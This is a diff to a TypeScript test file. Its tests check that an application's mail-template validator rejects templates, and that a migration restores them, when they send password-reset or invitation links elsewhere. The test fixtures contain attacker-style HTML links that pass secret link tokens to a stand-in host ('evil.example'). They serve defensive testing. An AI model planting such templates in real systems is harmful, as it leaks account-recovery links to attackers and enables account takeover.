@@ -1,6 +1,7 @@
 import { contract } from '@resa/contract';
 import { MAIL_KINDS, type MailKind } from '@resa/rules/text/mail-template';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { restoreMails } from '../db/migrations/0470-mails-of-accounts.ts';
 import { seedMailTemplates } from '../db/seed/reference/mail-templates.ts';
 import { firstPlace, plan, user } from '../testing/factories.ts';
 import { type TestServer, testServer } from '../testing/server.ts';
@@ -105,6 +106,15 @@ describe('a mail template is refused', () => {
     const silent = { ...pending, mail_en: '<p>Hello</p>' };
     expect(faults(await server.call(mails.update, { row: silent }, admin))).toEqual(['row.mail_en rule_mail_comment']);
   });
+
+  it.each(['reset', 'client_password', 'invitation', 'document_refused'] as const)(
+    'where the one of %s would send its link to an address of its author',
+    async (kind) => {
+      const row = { ...(await shipped(kind)), mail_en: '<p><a href="https://evil.example/?{{link}}">Open</a></p>' };
+      for (const call of [mails.update, mails.preview, mails.test])
+        expect(faults(await server.call(call, { row }, admin)), call.path).toEqual(['row.mail_en rule_mail_address']);
+    },
+  );
 
   it('where it does not exist, or somebody saved it meanwhile', async () => {
     const row = { ...words(), id: 999_999, row_version: 1 };
@@ -364,5 +374,20 @@ describe('a shipped mail template that was changed', () => {
       .execute();
     await seedMailTemplates(db());
     expect((await shipped('closed_day')).subject_en).toBe(before.subject_en);
+  });
+
+  it('goes back by an update of Resa where it sends its link elsewhere, or hides what happened', async () => {
+    const word = (code: MailKind, mail_fr: string) =>
+      db().updateTable('mail_templates').set({ mail_fr, worded: 1 }).where('code', '=', code).execute();
+    const before = { reset: await shipped('reset'), second_step: await shipped('second_step') };
+    const kept = '<p>{{link}} <a href="{{link}}">Ouvrir</a> <a href="https://aide.example/">Aide</a></p>';
+    await word('reset', '<p>{{link}} <a href="https://evil.example/?{{ link }}">Ouvrir</a></p>');
+    await word('second_step', '<p><a href="https://x.example/{{change}}">Nouvelles</a></p>');
+    await word('invitation', kept);
+    await restoreMails(db() as never);
+    await seedMailTemplates(db());
+    for (const kind of ['reset', 'second_step'] as const)
+      expect(await shipped(kind)).toMatchObject({ mail_fr: before[kind].mail_fr, worded: 0 });
+    expect(await shipped('invitation')).toMatchObject({ mail_fr: kept, worded: 1 });
   });
 });
